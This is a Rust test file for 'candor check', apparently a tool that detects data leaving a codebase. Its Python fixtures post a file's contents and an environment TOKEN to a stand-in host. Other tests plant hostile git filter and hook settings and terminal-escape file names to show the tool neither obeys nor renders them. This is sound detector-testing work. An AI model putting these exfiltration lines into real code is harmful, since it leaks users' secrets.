//! `candor check` as those use it who write the code: the same findings as a review, by what changed, again and again.

use std::fs;
use std::path::Path;
use std::process::{Command, Stdio};
use std::thread;
use std::time::Duration;

use candor::report::annotated::{self, View};
use candor::report::model::Report;
use candor::report::text::Terminal;
use tempfile::TempDir;

use super::review_run::Review;

/// A home with a `product` in it that is a git repository of one commit.
struct Home(TempDir);

/// Exit code, standard output, standard error.
type Ended = (i32, String, String);

const UPLOAD: &str = "import requests\n\n\ndef send(path):\n    with open(path) as file:\n        text = file.read()\n    \
requests.post('https://collector.example/u', data=text)\n";
const ENVIRONMENT: &str =
    "import os\n\nimport requests\n\nrequests.post('https://collector.example/e', data=os.environ['TOKEN'])\n";

impl Home {
    fn new() -> Self {
        let home = Self(tempfile::tempdir().expect("a scratch folder"));
        home.write("product/upload.py", UPLOAD);
        home.write("product/environment.py", ENVIRONMENT);
        home.write("product/harmless.py", "print('hello')\n");
        home.git(&["init", "-q", "-b", "main"]);
        home.commit();
        home
    }

    fn write(&self, name: &str, text: &str) {
        let path = self.0.path().join(name);
        fs::create_dir_all(path.parent().expect("below the home")).expect("a folder");
        fs::write(path, text).expect("a file");
    }

    fn git(&self, args: &[&str]) {
        let mut git = Command::new("git");
        git.current_dir(self.0.path().join("product")).env("HOME", self.0.path()).env("GIT_CONFIG_NOSYSTEM", "1");
        git.args(["-c", "user.name=a", "-c", "user.email=a@example.org"]).args(args);
        let output = git.output().expect("git runs");
        assert!(output.status.success(), "{args:?}: {}", String::from_utf8_lossy(&output.stderr));
    }

    fn commit(&self) {
        self.git(&["add", "-A"]);
        self.git(&["commit", "-q", "-m", "all"]);
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_candor"));
        command.env_clear().env("HOME", self.0.path()).current_dir(self.0.path()).stdin(Stdio::null());
        command.arg("check").args(args);
        command
    }

    fn check(&self, args: &[&str]) -> Ended {
        let output = self.command(args).output().expect("the program runs");
        let text = |bytes: Vec<u8>| String::from_utf8(bytes).expect("UTF-8");
        (output.status.code().expect("an exit code"), text(output.stdout), text(output.stderr))
    }
}

#[test]
fn each_finding_is_shown_in_its_lines_and_nothing_is_written() {
    let home = Home::new();
    let (code, out, err) = home.check(&["product"]);
    assert_eq!(code, 1, "{err}");
    for line in [
        "error[file-upload]: Contents of a file leave",
        " --> upload.py:5:10",
        "5 |     with open(path) as file:",
        "  |          ------------------ 1 source: FILE by open",
        " ::: upload.py:7:5",
        "sink: egress.http by requests.post",
        "error[environment-exfiltration]",
        "FINDINGS  2 findings\n",
        "`candor explain file-upload`",
    ] {
        assert!(out.contains(line), "{line}:\n{out}");
    }
    assert!(!out.contains('\u{1b}') && !err.contains('\u{1b}'), "a pipe gets plain text");
    assert!(!home.0.path().join(".local").exists(), "no key was made");
    assert!(!home.0.path().join("product.candor").exists(), "no pack was written");
}

/// There is one review: what it finds does not depend on who asks.
#[test]
fn the_report_is_that_of_a_review() {
    let home = Home::new();
    let (code, out, _) = home.check(&["product", "--format", "json", "--no-store"]);
    let reviewed = Review::of(&home.0.path().join("product")).run();
    assert_eq!((code, out.trim_end().as_bytes()), (reviewed.code, &reviewed.report_bytes()[..]));
}

#[test]
fn only_what_goes_through_changed_files_is_shown_and_the_rest_counted() {
    let home = Home::new();
    let since = |rev: &str| home.check(&["product", "--changed-since", rev]);
    let (code, out, err) = since("main");
    assert_eq!((code, err.as_str()), (0, ""), "{out}");
    assert!(out.contains("PASSED  0 findings on ways through the 0 files that changed since main; 2 elsewhere"), "{out}");

    home.write("product/upload.py", &UPLOAD.replace("text = file", "text  = file"));
    home.write("product/untracked.py", "print('new')\n");
    let (code, out, _) = since("HEAD");
    assert_eq!(code, 1);
    assert!(out.contains("1 finding on ways through the 2 files that changed since HEAD; 1 elsewhere"), "{out}");
    assert!(out.contains("[file-upload]") && !out.contains("[environment-exfiltration]"), "{out}");

    home.commit();
    home.git(&["tag", "v2"]);
    assert_eq!(since("v2").0, 0);
    for rev in ["main~1", "v2^", "HEAD~"] {
        let (code, out, err) = since(rev);
        assert_eq!(code, 1, "{rev}: {err}");
        assert!(out.contains(&format!("2 files that changed since {rev}; 1 elsewhere")), "{out}");
    }
}

/// What git would run or obey on the way is neither run nor obeyed.
#[test]
fn nothing_that_the_repository_says_is_obeyed() {
    let home = Home::new();
    home.write("product/.gitattributes", "*.py filter=evil diff=evil -diff export-ignore\n");
    home.write("product/.gitignore", "*.py\n");
    let config = "[filter \"evil\"]\n clean = touch ran\n smudge = touch ran\n[core]\n fsmonitor = touch ran\n hooksPath = .\n[diff \"evil\"]\n command = touch ran\n";
    let path = home.0.path().join("product/.git/config");
    fs::write(&path, fs::read_to_string(&path).expect("a config") + config).expect("written");
    home.write("product/upload.py", &UPLOAD.replace("text = file", "text  = file"));
    let (code, out, err) = home.check(&["product", "--changed-since", "main"]);
    assert_eq!(code, 1, "{err}");
    assert!(out.contains("1 finding on ways through the 3 files"), "{out}");
    assert!(!home.0.path().join("ran").exists() && !home.0.path().join("product/ran").exists());
}

#[test]
fn wrong_use_is_named_with_a_next_step() {
    let home = Home::new();
    home.write("plain/a.py", "print()\n");
    fs::create_dir(home.0.path().join("linked")).expect("a folder");
    home.write("linked/.git", "gitdir: ../product/.git\n");
    let cases: [(&[&str], &str, &str); 8] = [
        (&["product/upload.py"], "product/upload.py is not a directory", "help: name the directory"),
        (&["nowhere"], "cannot find nowhere", "help: check the name"),
        (
            &["product", "--changed-since", "nope"],
            "unknown revision nope; there are: HEAD, refs/heads/main",
            "help: name a branch",
        ),
        (&["product", "--changed-since", "main~7"], "unknown revision main~7", "help: name a branch"),
        (&["product", "--changed-since", "main^{tree}"], "unknown revision main^{tree}", "help: name a branch"),
        (&["product", "--changed-since", "\u{1b}[2J"], "\\u{1b}[2J", "help: "),
        (&["plain", "--changed-since", "HEAD"], "plain is not a git repository", "help: --changed-since needs the root"),
        (&["linked", "--changed-since", "HEAD"], "points to a repository elsewhere", "help: --changed-since reads"),
    ];
    for (args, what, help) in cases {
        let (code, out, err) = home.check(args);
        assert_eq!((code, out.as_str()), (2, ""), "{args:?}: {err}");
        assert!(err.contains(what) && err.contains(help) && !err.contains('\u{1b}'), "{args:?}: {err}");
    }
}

#[test]
fn a_policy_and_what_was_not_read_have_their_say() {
    let home = Home::new();
    home.write("policy.toml", "[count]\nignore = [\"file-upload\", \"environment-exfiltration\"]\n");
    let (code, out, err) = home.check(&["product", "--policy", "policy.toml"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("PASSED  0 findings\n") && out.contains("2 findings do not count by the policy"), "{out}");

    home.write("product/.git2/../sub/.git", "not a repository");
    let (code, out, _) = home.check(&["product", "--changed-since", "main"]);
    assert_eq!(code, 2, "incomplete is not clean");
    assert!(out.contains("INCOMPLETE") && out.contains("sub/.git: git-directory-not-a-repository"), "{out}");
    let (code, out, _) = home.check(&["product", "--quiet"]);
    assert_eq!((code, out.as_str()), (2, ""));
}

#[test]
fn annotations_of_github_name_files_from_the_root_of_the_repository() {
    let home = Home::new();
    home.write("product/a,b%::c.py", ENVIRONMENT);
    let (code, out, err) = home.check(&["./product", "--format", "github"]);
    assert_eq!(code, 1, "{err}");
    let whole = fs::canonicalize(home.0.path().join("product")).expect("it is there");
    assert_eq!(home.check(&[whole.to_str().expect("UTF-8"), "--format", "github"]).1, out);
    assert_eq!(out.lines().count(), 3, "{out}");
    assert!(out.lines().all(|line| line.starts_with("::error file=product/")), "{out}");
    assert!(out.contains("file=product/a%2Cb%25%3A%3Ac.py,line=5,col=1,title=candor F00"), "{out}");
}

/// Names and lines that would act on a terminal, or on the renderer.
#[test]
fn nothing_of_a_submission_acts() {
    let home = Home::new();
    let wide = "漢\u{301}字\u{200d}👩\u{202e}".repeat(60);
    home.write(
        "product/\u{1b}]8;;x\u{7}\u{202e}.py",
        &UPLOAD.replace("data=text", &format!("data=text, json='{wide}\u{1b}[2J'")),
    );
    let (code, out, err) = home.check(&["product"]);
    assert_eq!(code, 1, "{err}");
    assert!(out.contains("\\u{1b}]8;;x\\u{7}\\u{202e}.py:7"), "{out}");
    let acts = |character: char| character != '\n' && candor::base::display::is_unsafe(character);
    assert_eq!(out.chars().find(|character| acts(*character)), None);
}

/// Whatever the width, and with colours and links.
#[test]
fn every_width_shows_the_same_findings() {
    let home = Home::new();
    home.write("product/long.py", &UPLOAD.replace("data=text", &format!("data='{}é漢' + text", "x = 1; ".repeat(400))));
    let (_, json, _) = home.check(&["product", "--format", "json"]);
    let report = Report::from_json(json.trim_end().as_bytes()).expect("a report");
    for width in [40, 41, 57, 80, 160] {
        for colour in [false, true] {
            let links = colour.then(|| Path::new("/a b/ü").to_owned());
            let view = View { terminal: Terminal { width, colour }, links, since: None };
            let text = annotated::render(&report, &view);
            assert_eq!(text.matches("[file-upload]").count(), 2, "{text}");
            assert_eq!(text.contains("\u{1b}]8;;file:///a%20b/%C3%BC/upload.py\u{1b}\\"), colour, "{text}");
        }
    }
}

/// Waits at most a minute.
fn until(what: &str, holds: impl Fn() -> bool) {
    for _ in 0..1200 {
        if holds() {
            return;
        }
        thread::sleep(Duration::from_millis(50));
    }
    panic!("{what}");
}

#[test]
fn a_watch_checks_again_after_a_change_and_ends_when_it_is_told_to() {
    let home = Home::new();
    let log = home.0.path().join("log");
    let out = fs::File::create(&log).expect("a log");
    let mut watch = home
        .command(&["product", "--watch", "--store=product/facts"])
        .stdout(out)
        .stderr(Stdio::null())
        .spawn()
        .expect("started");
    let said = |text: &str| fs::read_to_string(&log).is_ok_and(|log| log.contains(text));
    until("the first check", || said("FINDINGS  2 findings\n"));
    home.write("product/more.py", ENVIRONMENT);
    until("a check after a new file", || said("FINDINGS  3 findings\n"));
    fs::remove_file(home.0.path().join("product/more.py")).expect("removed");
    fs::remove_file(home.0.path().join("product/upload.py")).expect("removed");
    until("a check after two files went", || said("FINDINGS  1 finding\n"));
    let interrupted = Command::new("kill").args(["-INT", &watch.id().to_string()]).status().expect("kill runs");
    assert!(interrupted.success());
    use std::os::unix::process::ExitStatusExt as _;
    assert_eq!(watch.wait().expect("it ends").signal(), Some(2));
}
